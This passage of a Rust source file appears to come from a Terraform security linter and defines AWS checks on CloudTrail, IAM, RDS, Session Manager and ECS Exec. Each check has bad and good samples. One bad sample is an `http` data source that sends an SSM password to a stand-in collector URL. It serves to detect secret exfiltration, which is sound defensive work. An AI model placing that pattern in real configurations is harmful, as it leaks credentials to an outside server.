//! More AWS checks: CloudTrail coverage of S3 buckets, IAM group hygiene, RDS parameter groups
//! (query logging, TLS enforcement), Session Manager preferences, ECS Exec logging, replacement
//! ordering (`create_before_destroy`), secrets sent out by `http` data sources, and others.

use infra_lint_core::terraform::{Tri, Val, Value};

use super::engine::Cond::{self, *};
use super::engine::{Ctx, Hit, Scope};

/// Whether a value (string, list, object, including keys) mentions `needle` (ASCII case
/// ignored); unknown when it holds unknown parts and nothing matched.
fn mentions(v: &Val, needle: &str) -> Tri {
    match &v.value {
        Value::String(s) => {
            if s.to_ascii_lowercase().contains(needle) {
                Tri::True
            } else {
                Tri::False
            }
        }
        Value::List(l) => any_tri(l.iter().map(|x| mentions(x, needle))),
        Value::Object(m, _) => {
            any_tri(
                m.iter().map(
                    |(k, x)| if k.to_ascii_lowercase().contains(needle) { Tri::True } else { mentions(x, needle) },
                ),
            )
        }
        Value::PartialJson(inner) => match mentions(inner, needle) {
            Tri::True => Tri::True,
            _ => Tri::Unknown,
        },
        Value::Unknown(_) => Tri::Unknown,
        _ => Tri::False,
    }
}

fn any_tri(it: impl Iterator<Item = Tri>) -> Tri {
    let mut unknown = false;
    for t in it {
        match t {
            Tri::True => return Tri::True,
            Tri::Unknown => unknown = true,
            Tri::False => {}
        }
    }
    if unknown {
        Tri::Unknown
    } else {
        Tri::False
    }
}

/// Whether a policy document data source (and the documents it merges) has a condition on
/// `aws:MultiFactorAuthPresent`/`aws:MultiFactorAuthAge`.
fn doc_requires_mfa(ctx: &Ctx<'_>, addr: &str, depth: usize) -> Tri {
    let Some(d) = ctx.by_addr.get(&(ctx.res.root.as_str(), addr)) else { return Tri::Unknown };
    if d.r#type != "aws_iam_policy_document" || depth > 4 {
        return Tri::Unknown;
    }
    let scope = Scope::Body(&d.body, d.header_span);
    let mut parts = Vec::new();
    for st in scope.objects("statement") {
        for c in st.objects("condition") {
            if let Some((v, _)) = c.get("variable") {
                parts.push(mentions(&v, "multifactorauth"));
            }
        }
    }
    for a in ["source_json", "override_json"] {
        if let Some((v, _)) = scope.get(a) {
            parts.push(mentions(&v, "multifactorauth"));
        }
    }
    for a in ["source_policy_documents", "override_policy_documents"] {
        if let Some((v, _)) = scope.get(a) {
            let items: Vec<Val> = match &v.value {
                Value::List(l) => l.clone(),
                _ => vec![v.clone()],
            };
            for x in items {
                parts.push(policy_val_requires_mfa(ctx, &x, depth + 1));
            }
        }
    }
    any_tri(parts.into_iter())
}

fn policy_val_requires_mfa(ctx: &Ctx<'_>, v: &Val, depth: usize) -> Tri {
    if let Some(r) = v.unknown_ref_str() {
        if let Some(addr) = r.strip_suffix(".json").or_else(|| r.strip_suffix(".minified_json")) {
            return doc_requires_mfa(ctx, addr, depth);
        }
        return Tri::Unknown;
    }
    mentions(v, "multifactorauth")
}

/// The scope's `policy` requires MFA.
fn policy_requires_mfa(ctx: &Ctx<'_>, s: &Scope<'_>) -> Hit {
    let Some((v, _)) = s.get("policy") else { return Hit::no() };
    Hit::tri(policy_val_requires_mfa(ctx, &v, 0))
}

/// Whether an `aws_cloudtrail` logs S3 object-level events of the given kind (`WriteOnly` /
/// `ReadOnly`) for the bucket `name` (`None`: the bucket name is unknown).
fn trail_logs_objects(trail: &Scope<'_>, name: Option<&str>, kind: &str) -> Tri {
    let mut parts = Vec::new();
    for sel in trail.objects("event_selector") {
        let rw = sel.get("read_write_type").and_then(|(v, _)| v.as_string()).unwrap_or_else(|| "All".to_owned());
        if !(rw.eq_ignore_ascii_case("All") || rw.eq_ignore_ascii_case(kind)) {
            continue;
        }
        for dr in sel.objects("data_resource") {
            let ty = dr.get("type").and_then(|(v, _)| v.as_string()).unwrap_or_default();
            if !ty.eq_ignore_ascii_case("AWS::S3::Object") {
                continue;
            }
            let Some((vals, _)) = dr.get("values") else { continue };
            let items: Vec<Val> = match &vals.value {
                Value::List(l) => l.clone(),
                _ => vec![vals.clone()],
            };
            for x in items {
                parts.push(match x.as_string() {
                    Some(arn) => {
                        let rest = arn.trim_start_matches("arn:aws:s3").trim_start_matches(":::");
                        let all = rest.is_empty() || rest == "*";
                        let this = name.is_some_and(|n| rest.split('/').next() == Some(n));
                        if all || this {
                            Tri::True
                        } else if name.is_none() {
                            Tri::Unknown
                        } else {
                            Tri::False
                        }
                    }
                    None => Tri::Unknown,
                });
            }
        }
    }
    // Advanced event selectors: a selector on `AWS::S3::Object` without a bucket filter.
    for sel in trail.objects("advanced_event_selector") {
        let mut s3 = false;
        let mut scoped = false;
        let mut ro: Option<String> = None;
        for f in sel.objects("field_selector") {
            let field = f.get("field").and_then(|(v, _)| v.as_string()).unwrap_or_default();
            let eq = f.get("equals").map(|(v, _)| v);
            match field.as_str() {
                "resources.type" => s3 |= eq.is_some_and(|v| mentions(&v, "aws::s3::object") == Tri::True),
                "resources.ARN" => scoped = true,
                "readOnly" => {
                    ro = eq.and_then(|v| {
                        if let Value::List(l) = &v.value {
                            l.first().and_then(Val::as_string)
                        } else {
                            v.as_string()
                        }
                    })
                }
                _ => {}
            }
        }
        if s3 {
            let kind_ok = match ro.as_deref() {
                None => true,
                Some(r) => (r == "true") == kind.eq_ignore_ascii_case("ReadOnly"),
            };
            if kind_ok {
                parts.push(if scoped { Tri::Unknown } else { Tri::True });
            }
        }
    }
    any_tri(parts.into_iter())
}

fn object_logging(ctx: &Ctx<'_>, kind: &str) -> Hit {
    let trails = ctx.by_type.get("aws_cloudtrail").map(Vec::as_slice).unwrap_or_default();
    let trails: Vec<_> = trails.iter().filter(|t| t.root == ctx.res.root).collect();
    // Only where this configuration manages a trail: account-level logging set up elsewhere is not visible.
    if trails.is_empty() {
        return Hit::no();
    }
    let name = ctx.res.attr("bucket").and_then(|a| a.value.as_string());
    if ctx.res.attr("bucket").is_some_and(|a| a.value.is_unknown()) {
        return Hit::tri(Tri::Unknown);
    }
    let covered =
        any_tri(trails.iter().map(|t| trail_logs_objects(&Scope::Body(&t.body, t.header_span), name.as_deref(), kind)));
    Hit::tri(match covered {
        Tri::True => Tri::False,
        Tri::False => Tri::True,
        Tri::Unknown => Tri::Unknown,
    })
}

fn no_object_write_logging(ctx: &Ctx<'_>, _: &Scope<'_>) -> Hit {
    object_logging(ctx, "WriteOnly")
}
fn no_object_read_logging(ctx: &Ctx<'_>, _: &Scope<'_>) -> Hit {
    object_logging(ctx, "ReadOnly")
}

/// An attribute of an `http` data source carries a secret read from SSM (a `SecureString`
/// parameter) or Secrets Manager.
fn http_sends_secret(ctx: &Ctx<'_>, s: &Scope<'_>) -> Hit {
    for attr in ["url", "request_body", "request_headers"] {
        let Some((v, span)) = s.get(attr) else { continue };
        let mut refs: Vec<String> = v.provenance().iter().map(|p| p.what.to_string()).collect();
        if let Some(r) = v.unknown_ref_str() {
            refs.push(r.to_owned());
        }
        collect_refs(&v, &mut refs);
        for r in &refs {
            for (prefix, secret) in [
                ("aws_ssm_parameter.", true),
                ("data.aws_ssm_parameter.", true),
                ("aws_secretsmanager_secret_version.", false),
                ("data.aws_secretsmanager_secret_version.", false),
            ] {
                let Some(pos) = r.find(prefix) else { continue };
                let tail = &r[pos..];
                let mut it = tail.splitn(3, '.');
                let addr = if prefix.starts_with("data.") {
                    let (a, b, c) = (it.next().unwrap_or(""), it.next().unwrap_or(""), it.next().unwrap_or(""));
                    let name = c.split(['.', '[', ' ', '}']).next().unwrap_or("");
                    format!("{a}.{b}.{name}")
                } else {
                    let (a, b) = (it.next().unwrap_or(""), it.next().unwrap_or(""));
                    let name = b.split(['.', '[', ' ', '}']).next().unwrap_or("");
                    format!("{a}.{name}")
                };
                let reads_value =
                    tail.contains(".value") || tail.contains(".secret_string") || tail.contains(".secret_binary");
                if !reads_value {
                    continue;
                }
                let is_secret = !secret
                    || ctx
                        .by_addr
                        .get(&(ctx.res.root.as_str(), addr.as_str()))
                        .and_then(|p| p.attr("type").and_then(|t| t.value.as_string()))
                        .is_none_or(|t| t.eq_ignore_ascii_case("SecureString"));
                if is_secret {
                    return Hit::at(span, None, Some(format!("{addr} in `{attr}`")));
                }
            }
        }
    }
    Hit::no()
}

fn collect_refs(v: &Val, out: &mut Vec<String>) {
    match &v.value {
        Value::Unknown(Some(r)) => out.push(r.to_string()),
        Value::List(l) => l.iter().for_each(|x| collect_refs(x, out)),
        Value::Object(m, _) => m.values().for_each(|x| collect_refs(x, out)),
        _ => {}
    }
    out.extend(v.provenance().iter().map(|p| p.what.to_string()));
}

/// The value of a key in a Session Manager preferences document (JSON or YAML text): `None`
/// when absent, `Some("")` when empty.
fn session_input(content: &str, key: &str) -> Option<String> {
    let pos = content.find(key)?;
    let rest = &content[pos + key.len()..];
    let rest = rest.trim_start_matches(['"', '\'']).trim_start();
    let rest = rest.strip_prefix(':')?.trim_start();
    let end = rest.find([',', '\n', '}']).unwrap_or(rest.len());
    Some(rest[..end].trim().trim_matches(['"', '\'']).trim().to_owned())
}

fn session_doc(s: &Scope<'_>) -> Option<(String, infra_lint_core::Span)> {
    let ty = s.get("document_type").and_then(|(v, _)| v.as_string())?;
    if !ty.eq_ignore_ascii_case("Session") {
        return None;
    }
    let (v, span) = s.get("content")?;
    Some((v.as_string()?, span))
}

fn session_no_kms(_: &Ctx<'_>, s: &Scope<'_>) -> Hit {
    let Some((content, span)) = session_doc(s) else { return Hit::no() };
    if !content.contains("sessionType") || !content.contains("Standard_Stream") {
        return Hit::no();
    }
    match session_input(&content, "kmsKeyId") {
        Some(k) if !k.is_empty() => Hit::no(),
        _ => Hit::at(span, None, Some("kmsKeyId is empty".to_owned())),
    }
}

fn session_logging(_: &Ctx<'_>, s: &Scope<'_>) -> Hit {
    let Some((content, span)) = session_doc(s) else { return Hit::no() };
    if !content.contains("sessionType") || !content.contains("Standard_Stream") {
        return Hit::no();
    }
    let on = |dest: &str, enc: &str| {
        session_input(&content, dest).is_some_and(|d| !d.is_empty())
            && session_input(&content, enc).is_some_and(|e| e.eq_ignore_ascii_case("true"))
    };
    if on("s3BucketName", "s3EncryptionEnabled") || on("cloudWatchLogGroupName", "cloudWatchEncryptionEnabled") {
        Hit::no()
    } else {
        Hit::at(span, None, None)
    }
}

const POSTGRES: Cond = Or(&[Prefix("engine", "postgres"), Eq("engine", "aurora-postgresql")]);

/// A parameter `name` whose value is not one of the `off` values.
macro_rules! param_on {
    ($name:literal, $off:expr) => {
        Any("parameter", &And(&[Eq("name", $name), Not(&In("value", $off))]))
    };
}

/// The parameter group logs statements (`log_statement` other than `none`, or a
/// `log_min_duration_statement` of 0 or more).
const PG_QUERY_LOGGING: Cond =
    Or(&[param_on!("log_statement", &["none"]), param_on!("log_min_duration_statement", &["-1"])]);

const PG_TYPES: &[&str] = &["aws_db_parameter_group", "aws_rds_cluster_parameter_group"];

/// A parameter group that does not force TLS for its engine family.
const PG_NO_TLS: Cond = Or(&[
    And(&[
        Or(&[Prefix("family", "postgres"), Prefix("family", "aurora-postgresql"), Prefix("family", "sqlserver")]),
        Not(&Any("parameter", &And(&[Eq("name", "rds.force_ssl"), In("value", &["1", "true", "on"])]))),
    ]),
    And(&[
        Or(&[Prefix("family", "mysql"), Prefix("family", "mariadb"), Prefix("family", "aurora-mysql")]),
        Not(&Any("parameter", &And(&[Eq("name", "require_secure_transport"), In("value", &["1", "on", "true"])]))),
    ]),
    And(&[Prefix("family", "db2"), Not(&Any("parameter", &And(&[Eq("name", "db2comm"), Eq("value", "SSL")])))]),
]);

const COMMON_ADMIN_NAMES: &[&str] = &[
    "admin",
    "administrator",
    "awsuser",
    "root",
    "master",
    "user",
    "test",
    "postgres",
    "dbadmin",
    "sa",
    "redshift",
    "superuser",
];

crate::cloud_checks! { CHECKS; "aws";
    {
        id: "aws-iam-group-no-mfa",
        severity: Medium,
        types: ["aws_iam_group"],
        service: "iam",
        summary: "An IAM group whose policies do not require MFA",
        why: "Members of a group get its permissions with a password or access key alone; a policy condition on `aws:MultiFactorAuthPresent` makes a stolen password or key insufficient.",
        note: "Inline group policies (`aws_iam_group_policy`) and managed policies attached to the group in the same configuration are read, including `aws_iam_policy_document` data sources; a policy that cannot be read is not reported.",
        fix: "Attach a policy that allows the group's actions only with `aws:MultiFactorAuthPresent = true` (or denies everything without it)",
        message: "no policy of the group requires MFA",
        when: And(&[
            Not(&Related { types: &["aws_iam_group_policy"], via: "group", cond: Some(&Code(policy_requires_mfa)) }),
            Not(&Related {
                types: &["aws_iam_group_policy_attachment"],
                via: "group",
                cond: Some(&Target { types: &["aws_iam_policy"], via: "policy_arn", cond: &Code(policy_requires_mfa) }),
            }),
        ]),
        aliases: ["AVD-AWS-0123", "AWS-0123"],
        bad: r#"resource "aws_iam_group" "ops" {
  name = "ops"
}
"#,
        good: r#"resource "aws_iam_group" "ops" {
  name = "ops"
}

resource "aws_iam_group_policy" "mfa" {
  group  = aws_iam_group.ops.name
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "ec2:*"
      Resource  = "*"
      Condition = { Bool = { "aws:MultiFactorAuthPresent" = "true" } }
    }]
  })
}
"#,
    },
    {
        id: "aws-iam-group-no-users",
        severity: Low,
        types: ["aws_iam_group"],
        service: "iam",
        summary: "An IAM group with no members",
        why: "A group nobody belongs to carries permissions that serve no one and are easy to overlook when someone is added later.",
        note: "Memberships declared with `aws_iam_group_membership` or `aws_iam_user_group_membership` in the same configuration count.",
        fix: "Add the users with `aws_iam_group_membership` / `aws_iam_user_group_membership`, or remove the group",
        message: "group has no members in this configuration",
        when: And(&[
            Not(&Related { types: &["aws_iam_group_membership"], via: "group", cond: None }),
            Not(&Related { types: &["aws_iam_user_group_membership"], via: "groups", cond: None }),
        ]),
        aliases: ["CKV2_AWS_14"],
        bad: r#"resource "aws_iam_group" "ops" {
  name = "ops"
}
"#,
        good: r#"resource "aws_iam_group" "ops" {
  name = "ops"
}

resource "aws_iam_group_membership" "ops" {
  name  = "ops"
  group = aws_iam_group.ops.name
  users = ["alice"]
}
"#,
    },
    {
        id: "aws-iam-user-no-group",
        severity: Low,
        types: ["aws_iam_user"],
        service: "iam",
        summary: "An IAM user that belongs to no group",
        why: "CIS AWS 1.15: permissions should come from groups (or roles), so that they are reviewed and revoked in one place instead of per user.",
        note: "Memberships declared with `aws_iam_group_membership` or `aws_iam_user_group_membership` in the same configuration count.",
        fix: "Add the user to a group (`aws_iam_user_group_membership`) and grant permissions to the group",
        message: "user is not a member of any group",
        when: And(&[
            Not(&Related { types: &["aws_iam_group_membership"], via: "users", cond: None }),
            Not(&Related { types: &["aws_iam_user_group_membership"], via: "user", cond: None }),
        ]),
        aliases: ["CKV2_AWS_21"],
        bad: r#"resource "aws_iam_user" "ci" {
  name = "ci"
}
"#,
        good: r#"resource "aws_iam_user" "ci" {
  name = "ci"
}

resource "aws_iam_user_group_membership" "ci" {
  user   = aws_iam_user.ci.name
  groups = ["deployers"]
}
"#,
    },
    {
        id: "aws-cloudtrail-bucket-public",
        severity: Critical,
        types: ["aws_cloudtrail"],
        service: "cloudtrail",
        summary: "A CloudTrail trail writing to a publicly readable S3 bucket",
        why: "The trail's log bucket holds the account's whole API history: who did what, resource names, source IPs. A public ACL on it hands that map to anyone.",
        fix: "Make the trail's bucket private (`private` ACL or `BucketOwnerEnforced` ownership) and add a public access block",
        message: "the trail's S3 bucket has a public ACL",
        when: Target {
            types: &["aws_s3_bucket"],
            via: "s3_bucket_name",
            cond: &Or(&[
                In("acl", &["public-read", "public-read-write", "authenticated-read"]),
                Related {
                    types: &["aws_s3_bucket_acl"],
                    via: "bucket",
                    cond: Some(&In("acl", &["public-read", "public-read-write", "authenticated-read"])),
                },
            ]),
        },
        aliases: ["AVD-AWS-0161", "AWS-0161"],
        bad: r#"resource "aws_cloudtrail" "main" {
  name           = "main"
  s3_bucket_name = aws_s3_bucket.trail.id
}

resource "aws_s3_bucket" "trail" {
  bucket = "trail-logs"
  acl    = "public-read"
}
"#,
        good: r#"resource "aws_cloudtrail" "main" {
  name           = "main"
  s3_bucket_name = aws_s3_bucket.trail.id
}

resource "aws_s3_bucket" "trail" {
  bucket = "trail-logs"
  acl    = "private"
}
"#,
    },
    {
        id: "aws-cloudtrail-bucket-no-logging",
        severity: Low,
        types: ["aws_cloudtrail"],
        service: "cloudtrail",
        summary: "A CloudTrail trail whose S3 bucket has no server access logging",
        why: "CIS AWS 3.6: access logs on the trail bucket record who read or tried to delete the audit trail itself.",
        note: "Only a bucket declared in the same configuration is inspected; logging through `logging {}` or `aws_s3_bucket_logging` counts.",
        fix: "Enable server access logging on the trail's bucket (`aws_s3_bucket_logging` to a separate log bucket)",
        message: "the trail's S3 bucket has no access logging",
        when: Target {
            types: &["aws_s3_bucket"],
            via: "s3_bucket_name",
            cond: &And(&[
                Not(&Has("logging")),
                Not(&Set("logging")),
                Not(&Related { types: &["aws_s3_bucket_logging"], via: "bucket", cond: None }),
            ]),
        },
        aliases: ["AVD-AWS-0163", "AWS-0163"],
        bad: r#"resource "aws_cloudtrail" "main" {
  name           = "main"
  s3_bucket_name = aws_s3_bucket.trail.id
}

resource "aws_s3_bucket" "trail" {
  bucket = "trail-logs"
}
"#,
        good: r#"resource "aws_cloudtrail" "main" {
  name           = "main"
  s3_bucket_name = aws_s3_bucket.trail.id
}

resource "aws_s3_bucket" "trail" {
  bucket = "trail-logs"
}

resource "aws_s3_bucket_logging" "trail" {
  bucket        = aws_s3_bucket.trail.id
  target_bucket = "access-logs"
  target_prefix = "trail/"
}
"#,
    },
    {
        id: "aws-s3-no-object-write-logging",
        severity: Low,
        types: ["aws_s3_bucket"],
        service: "s3",
        summary: "An S3 bucket whose object writes are not logged by the configuration's CloudTrail trail",
        why: "CIS AWS 3.10: `PutObject` and `DeleteObject` are data events, which trails do not record unless asked. Without them nobody can tell who changed or deleted an object.",
        note: "Reported only when the configuration declares an `aws_cloudtrail`: a trail managed elsewhere cannot be seen.",
        fix: "Add an `event_selector` with `read_write_type = \"All\"` (or `WriteOnly`) and a `data_resource` of type `AWS::S3::Object` covering the bucket",
        message: "object-level write events are not logged by CloudTrail",
        when: Code(no_object_write_logging),
        aliases: ["AVD-AWS-0171", "AWS-0171"],
        bad: r#"resource "aws_s3_bucket" "data" {
  bucket = "data"
}

resource "aws_cloudtrail" "main" {
  name = "main"
  event_selector {
    read_write_type = "ReadOnly"
    data_resource {
      type   = "AWS::S3::Object"
      values = ["arn:aws:s3"]
    }
  }
}
"#,
        good: r#"resource "aws_s3_bucket" "data" {
  bucket = "data"
}

resource "aws_cloudtrail" "main" {
  name = "main"
  event_selector {
    read_write_type = "All"
    data_resource {
      type   = "AWS::S3::Object"
      values = ["arn:aws:s3:::data/"]
    }
  }
}
"#,
    },
    {
        id: "aws-s3-no-object-read-logging",
        severity: Low,
        types: ["aws_s3_bucket"],
        service: "s3",
        summary: "An S3 bucket whose object reads are not logged by the configuration's CloudTrail trail",
        why: "CIS AWS 3.11: `GetObject` is a data event, which trails do not record unless asked. Without it a data leak leaves no trace of who downloaded what.",
        note: "Reported only when the configuration declares an `aws_cloudtrail`: a trail managed elsewhere cannot be seen.",
        fix: "Add an `event_selector` with `read_write_type = \"All\"` (or `ReadOnly`) and a `data_resource` of type `AWS::S3::Object` covering the bucket",
        message: "object-level read events are not logged by CloudTrail",
        when: Code(no_object_read_logging),
        aliases: ["AVD-AWS-0172", "AWS-0172"],
        bad: r#"resource "aws_s3_bucket" "data" {
  bucket = "data"
}

resource "aws_cloudtrail" "main" {
  name = "main"
  event_selector {
    read_write_type = "WriteOnly"
    data_resource {
      type   = "AWS::S3::Object"
      values = ["arn:aws:s3"]
    }
  }
}
"#,
        good: r#"resource "aws_s3_bucket" "data" {
  bucket = "data"
}

resource "aws_cloudtrail" "main" {
  name = "main"
  event_selector {
    read_write_type = "All"
    data_resource {
      type   = "AWS::S3::Object"
      values = ["arn:aws:s3"]
    }
  }
}
"#,
    },
    {
        id: "aws-http-data-sends-secret",
        severity: Critical,
        types: ["data.http"],
        service: "ssm",
        summary: "An `http` data source sending a secret from SSM or Secrets Manager to a URL",
        why: "`data \"http\"` runs at every plan: a secret placed in its URL, body or headers is sent to that server (and to its logs), whoever reviews the plan. It is a known way to exfiltrate secrets through a pull request.",
        fix: "Do not send secret values with the `http` data source; give the service access through IAM or a secret reference instead",
        message: "a secret value is sent in an HTTP request",
        when: Code(http_sends_secret),
        aliases: ["AVD-AWS-0134", "AWS-0134", "CKV2_AWS_36"],
        bad: r#"resource "aws_ssm_parameter" "db_password" {
  name  = "db_password"
  type  = "SecureString"
  value = var.db_password
}

data "http" "leak" {
  url = "https://collector.example.com/?p=${aws_ssm_parameter.db_password.value}"
}
"#,
        good: r#"resource "aws_ssm_parameter" "db_password" {
  name  = "db_password"
  type  = "SecureString"
  value = var.db_password
}

data "http" "health" {
  url = "https://status.example.com/health"
}
"#,
    },
    {
        id: "aws-rds-postgres-query-logging",
        severity: Low,
        types: ["aws_db_instance", "aws_rds_cluster"],
        service: "rds",
        summary: "A PostgreSQL RDS instance or Aurora cluster that does not log queries",
        why: "Without `log_statement` or `log_min_duration_statement` the database logs no statements: an injection or a mass export leaves no trace in the PostgreSQL log.",
        note: "The default parameter group logs no statements; a custom group declared in the same configuration is read, one declared elsewhere is not reported.",
        fix: "Use a parameter group with `log_statement` (e.g. `ddl` or `all`) or `log_min_duration_statement`, and export the `postgresql` log to CloudWatch",
        message: "the parameter group does not log statements",
        when: And(&[
            POSTGRES,
            Or(&[
                And(&[Type("aws_db_instance"), Or(&[Not(&Set("parameter_group_name")), Prefix("parameter_group_name", "default.")])]),
                And(&[Type("aws_rds_cluster"), Or(&[Not(&Set("db_cluster_parameter_group_name")), Prefix("db_cluster_parameter_group_name", "default.")])]),
                Target { types: PG_TYPES, via: "parameter_group_name", cond: &Not(&PG_QUERY_LOGGING) },
                Target { types: PG_TYPES, via: "db_cluster_parameter_group_name", cond: &Not(&PG_QUERY_LOGGING) },
            ]),
        ]),
        aliases: ["CKV2_AWS_27", "CKV2_AWS_30"],
        bad: r#"resource "aws_db_instance" "db" {
  engine         = "postgres"
  instance_class = "db.t3.micro"
}
"#,
        good: r#"resource "aws_db_instance" "db" {
  engine               = "postgres"
  instance_class       = "db.t3.micro"
  parameter_group_name = aws_db_parameter_group.pg.name
}

resource "aws_db_parameter_group" "pg" {
  name   = "pg"
  family = "postgres16"
  parameter {
    name  = "log_statement"
    value = "ddl"
  }
  parameter {
    name  = "log_min_duration_statement"
    value = "1000"
  }
}
"#,
    },
    {
        id: "aws-rds-tls-not-enforced",
        severity: Medium,
        types: ["aws_db_instance", "aws_rds_cluster"],
        service: "rds",
        summary: "An RDS instance or Aurora cluster whose parameter group does not require TLS",
        why: "Unless the parameter group forces it (`rds.force_ssl` for PostgreSQL and SQL Server, `require_secure_transport` for MySQL and MariaDB, `db2comm = SSL` for Db2), clients may connect in clear text and send credentials and data unencrypted.",
        note: "Only a parameter group declared in the same configuration is read.",
        fix: "In the parameter group set `rds.force_ssl = 1` (PostgreSQL, SQL Server) or `require_secure_transport = 1` (MySQL, MariaDB)",
        message: "the parameter group does not force TLS connections",
        when: Or(&[
            Target { types: PG_TYPES, via: "parameter_group_name", cond: &PG_NO_TLS },
            Target { types: PG_TYPES, via: "db_cluster_parameter_group_name", cond: &PG_NO_TLS },
        ]),
        aliases: ["CKV2_AWS_69"],
        bad: r#"resource "aws_db_instance" "db" {
  engine               = "postgres"
  parameter_group_name = aws_db_parameter_group.pg.name
}

resource "aws_db_parameter_group" "pg" {
  name   = "pg"
  family = "postgres16"
  parameter {
    name  = "rds.force_ssl"
    value = "0"
  }
}
"#,
        good: r#"resource "aws_db_instance" "db" {
  engine               = "postgres"
  parameter_group_name = aws_db_parameter_group.pg.name
}

resource "aws_db_parameter_group" "pg" {
  name   = "pg"
  family = "postgres16"
  parameter {
    name  = "rds.force_ssl"
    value = "1"
  }
}
"#,
    },
    {
        id: "aws-create-before-destroy",
        severity: Low,
        types: ["aws_api_gateway_deployment", "aws_api_gateway_rest_api", "aws_acm_certificate"],
        service: "apigateway",
        summary: "An API Gateway deployment or API, or an ACM certificate, replaced by destroying it first",
        why: "These resources are replaced on many changes. Terraform destroys before creating by default, so the stage loses its deployment (or the listener its certificate) in between: an outage on every such apply. `create_before_destroy` swaps them without a gap.",
        fix: "Add `lifecycle { create_before_destroy = true }`",
        message: "lifecycle create_before_destroy is not enabled",
        when: Not(&True("lifecycle.create_before_destroy")),
        aliases: ["CKV_AWS_217", "CKV_AWS_233", "CKV_AWS_237"],
        bad: r#"resource "aws_acm_certificate" "cert" {
  domain_name       = "example.com"
  validation_method = "DNS"
}
"#,
        good: r#"resource "aws_acm_certificate" "cert" {
  domain_name       = "example.com"
  validation_method = "DNS"
  lifecycle {
    create_before_destroy = true
  }
}
"#,
    },
    {
        id: "aws-ssm-session-no-kms",
        severity: Medium,
        types: ["aws_ssm_document"],
        service: "ssm",
        summary: "Session Manager preferences that do not encrypt sessions with a KMS key",
        why: "Without `kmsKeyId` in the Session Manager preferences, session data between the client and the instance is protected by TLS only; a KMS key adds encryption the account controls and audits.",
        fix: "Set `inputs.kmsKeyId` to a customer managed key in the `Session` document",
        message: "Session Manager sessions are not encrypted with a KMS key",
        when: Code(session_no_kms),
        aliases: ["CKV_AWS_112"],
        bad: r#"resource "aws_ssm_document" "session" {
  name          = "SSM-SessionManagerRunShell"
  document_type = "Session"
  content = jsonencode({
    schemaVersion = "1.0"
    sessionType   = "Standard_Stream"
    inputs = {
      kmsKeyId           = ""
      s3BucketName       = ""
      idleSessionTimeout = "20"
    }
  })
}
"#,
        good: r#"resource "aws_ssm_document" "session" {
  name          = "SSM-SessionManagerRunShell"
  document_type = "Session"
  content = jsonencode({
    schemaVersion = "1.0"
    sessionType   = "Standard_Stream"
    inputs = {
      kmsKeyId           = "alias/session"
      s3BucketName       = ""
      idleSessionTimeout = "20"
    }
  })
}
"#,
    },
    {
        id: "aws-ssm-session-logging",
        severity: Low,
        types: ["aws_ssm_document"],
        service: "ssm",
        summary: "Session Manager preferences that do not log sessions to an encrypted destination",
        why: "Session logs are the record of what was typed on an instance. Without an S3 bucket or CloudWatch log group with encryption enforced, sessions leave no trace or leave it unencrypted.",
        fix: "Set `s3BucketName` with `s3EncryptionEnabled = true`, or `cloudWatchLogGroupName` with `cloudWatchEncryptionEnabled = true`, in the `Session` document",
        message: "Session Manager sessions are not logged to an encrypted destination",
        when: Code(session_logging),
        aliases: ["CKV_AWS_113"],
        bad: r#"resource "aws_ssm_document" "session" {
  name          = "SSM-SessionManagerRunShell"
  document_type = "Session"
  content = jsonencode({
    schemaVersion = "1.0"
    sessionType   = "Standard_Stream"
    inputs = {
      s3BucketName        = ""
      s3EncryptionEnabled = false
    }
  })
}
"#,
        good: r#"resource "aws_ssm_document" "session" {
  name          = "SSM-SessionManagerRunShell"
  document_type = "Session"
  content = jsonencode({
    schemaVersion = "1.0"
    sessionType   = "Standard_Stream"
    inputs = {
      s3BucketName        = "session-logs"
      s3EncryptionEnabled = true
    }
  })
}
"#,
    },
    {
        id: "aws-ecs-exec-no-cmk",
        severity: Low,
        types: ["aws_ecs_cluster"],
        service: "ecs",
        summary: "ECS Exec configured without a KMS key or without encrypted session logs",
        why: "ECS Exec opens a shell in running containers. Without a KMS key the session channel is not encrypted with a key the account controls, and without an encrypted CloudWatch or S3 destination the commands run leave no protected record.",
        fix: "In `execute_command_configuration` set `kms_key_id` and a `log_configuration` with `cloud_watch_encryption_enabled = true` (or `s3_bucket_encryption_enabled = true`)",
        message: "ECS Exec has no KMS key or no encrypted log destination",
        when: Any("configuration.execute_command_configuration", &And(&[
            Not(&Eq("logging", "NONE")),
            Or(&[
                Not(&Set("kms_key_id")),
                Not(&Or(&[
                    True("log_configuration.cloud_watch_encryption_enabled"),
                    True("log_configuration.s3_bucket_encryption_enabled"),
                ])),
            ]),
        ])),
        aliases: ["CKV_AWS_224"],
        bad: r#"resource "aws_ecs_cluster" "c" {
  name = "apps"
  configuration {
    execute_command_configuration {
      kms_key_id = aws_kms_key.exec.arn
    }
  }
}
"#,
        good: r#"resource "aws_ecs_cluster" "c" {
  name = "apps"
  configuration {
    execute_command_configuration {
      kms_key_id = aws_kms_key.exec.arn
      logging    = "OVERRIDE"
      log_configuration {
        cloud_watch_encryption_enabled = true
        cloud_watch_log_group_name     = "ecs-exec"
      }
    }
  }
}
"#,
    },
    {
        id: "aws-redshift-default-admin-public",
        severity: High,
        types: ["aws_redshift_cluster"],
        service: "redshift",
        summary: "A publicly accessible Redshift cluster with a common admin user name",
        why: "A public endpoint with a guessable master user name (`admin`, `awsuser`, `root` …) leaves only the password between the internet and the warehouse; these names are the first tried by password sprayers.",
        fix: "Set `publicly_accessible = false`, and use a master user name that is not a common default",
        message: "cluster is public and its master user name is a common default",
        when: And(&[True("publicly_accessible"), In("master_username", COMMON_ADMIN_NAMES)]),
        aliases: ["CKV_AWS_391"],
        bad: r#"resource "aws_redshift_cluster" "dw" {
  cluster_identifier  = "dw"
  master_username     = "admin"
  publicly_accessible = true
}
"#,
        good: r#"resource "aws_redshift_cluster" "dw" {
  cluster_identifier  = "dw"
  master_username     = "dw_owner"
  publicly_accessible = false
}
"#,
    },
    {
        id: "aws-rds-backups-disabled",
        severity: Medium,
        types: ["aws_db_instance", "aws_rds_cluster"],
        service: "rds",
        summary: "An RDS instance or cluster with automated backups turned off",
        why: "`backup_retention_period = 0` disables automated backups and point-in-time recovery; a retention above 35 days is not accepted by RDS.",
        note: "Read replicas and restores are not reported (backups follow the source). An unset retention uses the RDS default (one day), reported by `aws-rds-backup-retention` with other short retentions.",
        fix: "Set `backup_retention_period` between 7 and 35 days",
        message: "automated backups are disabled or the retention is out of range",
